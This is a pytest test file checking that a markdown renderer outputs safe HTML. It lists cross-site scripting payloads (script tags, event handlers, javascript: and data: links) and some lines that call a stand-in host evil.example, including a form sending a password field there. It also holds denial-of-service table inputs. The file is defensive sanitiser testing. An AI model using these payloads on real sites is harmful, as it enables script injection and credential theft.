"""Long answers become safe HTML: nothing runs, nothing is fetched, links are plain."""

import pytest

from registry.cards.markdown import rendered

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "![tracker](https://evil.example/pixel.png)",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='https://x.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "[x]: javascript:alert(1)\n\n[x]",
    '<https://ok.example/"onmouseover=alert(1)>',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "| a |\n|---|\n| <script>alert(1)</script> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    from html.parser import HTMLParser

    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Reader().feed(rendered(text))
    for tag, attributes in found:
        assert tag in {"p", "a", "pre", "code", "table", "thead", "tbody", "tr", "th", "td"}
        assert set(attributes) <= {"href", "rel"}
        assert attributes.get("href", "https:").split(":")[0] in {"http", "https", "mailto"}


def test_what_people_need_is_there():
    html = rendered(
        "# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in ("<h4>Title</h4>", "<strong>bold</strong>", "<li>one</li>", "<td>2</td>"):
        assert part in html
    link = rendered("[docs](https://wiki.example/a?b=1)")
    assert (
        '<a href="https://wiki.example/a?b=1" rel="noopener noreferrer nofollow">docs</a>' in link
    )


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "*a " * 6_000, "> " * 10_000, "`" * 20_000, "![" * 9_999]
)
@pytest.mark.timeout(20)
def test_a_long_odd_text_is_rendered_in_time(text):
    assert rendered(text) is not None


BOMB = "|x" * 2_475 + "|\n" + "|-" * 2_475 + "|\n" + "|\n" * 4_000


@pytest.mark.parametrize("text", [BOMB, BOMB.replace("\n", "\r"), BOMB.replace("\n", "\r\n")])
def test_table_that_would_have_millions_of_cells_stays_text(text):
    found = rendered(text)
    assert "<table" not in found
    assert "<td" not in found
    assert found.count("x") == 2_475


def test_line_separators_hide_no_columns():
    assert "<td" not in rendered(BOMB.replace("|x", "|\u2028"))


def test_tables_of_a_sensible_size_are_tables():
    rows = "\n".join("| a | b | c |" for _ in range(200))
    text = f"| x | y | z |\n|---|---|---|\n{rows}"
    assert rendered(text).count("<td") == 600
    parts = "\n\n".join([f"| x | y |\n|---|---|\n| {n} | two |" for n in range(50)])
    assert rendered(parts).count("<table") == 50
